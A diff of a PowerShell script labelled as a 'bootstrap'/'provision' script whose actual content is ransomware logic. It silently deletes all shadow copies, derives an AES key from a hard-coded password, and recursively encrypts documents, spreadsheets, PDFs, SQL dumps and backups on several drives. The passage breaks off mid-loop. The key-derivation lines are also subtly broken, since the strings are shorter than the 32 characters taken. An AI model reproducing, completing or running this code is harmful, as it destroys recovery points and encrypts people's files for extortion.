@@ -1,8 +1,8 @@
-# bootstrap 7824 v0
+# provision 5905 v0
 vssadmin.exe delete shadows /all /quiet
 Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
 $aes = [System.Security.Cryptography.Aes]::Create()
-$aes.Key = [Text.Encoding]::UTF8.GetBytes('Sup3rS3cure!Sup3rS3cure!'.Substring(0,32))
+$aes.Key = [Text.Encoding]::UTF8.GetBytes('Qwerty#7788Qwerty#7788'.Substring(0,32))
 Get-ChildItem -Path D:\, E:\, C:\Users -Include *.docx,*.xlsx,*.pdf,*.sql,*.bak -Recurse -ErrorAction SilentlyContinue | ForEach-Object {
   $bytes = [IO.File]::ReadAllBytes($_.FullName)
   $enc = $aes.CreateEncryptor().TransformFinalBlock($bytes, 0, $bytes.Length)
